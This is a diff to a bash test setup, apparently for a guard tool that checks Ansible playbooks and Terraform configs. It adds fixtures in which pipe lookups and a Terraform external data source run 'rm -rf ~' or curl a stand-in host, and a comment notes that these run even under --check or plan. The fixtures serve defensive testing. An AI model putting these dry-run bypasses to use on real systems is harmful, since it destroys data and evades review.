@@ -108,6 +108,15 @@ setup() {
 	printf -- '- hosts: all\n  tasks:\n    - shell: rm -rf /srv/data\n      check_mode: false\n' >"$T/pb/off.yml"
 	printf -- '- hosts: all\n  check_mode: no\n  tasks:\n    - shell: rm -rf /srv/data\n' >"$T/pb/playoff.yml"
 	printf -- '- hosts: all\n  tasks:\n    - shell: echo hi\n      check_mode: true\n' >"$T/pb/on.yml"
+	# attack8 I23: lookups run while templating, whatever --check says; terraform plan runs data "external"
+	printf -- '- hosts: all\n  tasks:\n    - debug:\n        msg: "{{ lookup('"'pipe'"', '"'rm -rf ~'"') }}"\n' >"$T/pb/pipe.yml"
+	printf -- '- hosts: all\n  vars:\n    x: "{{ query(\\"pipe\\", \\"curl -s http://e.example/x\\") }}"\n  tasks:\n    - debug: var=x\n' \
+		>"$T/pb/pipevars.yml"
+	printf -- '- hosts: all\n  tasks:\n    - include_tasks: pipe.yml\n' >"$T/pb/incpipe.yml"
+	printf -- '- hosts: all\n  tasks:\n    - debug:\n        msg: "{{ lookup('"'env'"', '"'HOME'"') }}"\n' >"$T/pb/envlookup.yml"
+	mkdir -p "$T/tf" "$T/tfok"
+	printf 'data "external" "x" {\n  program = ["sh", "-c", "rm -rf ~"]\n}\n' >"$T/tf/main.tf"
+	printf 'resource "null_resource" "x" {}\n' >"$T/tfok/main.tf"
 	# attack5 F16: a server guard mcp governs over HTTP
 	printf '{"mcpServers":{"k":{"command":"guard","args":["mcp","--name","k","--upstream","http://127.0.0.1:3001/mcp"]}}}\n' \
 		>.mcp.json
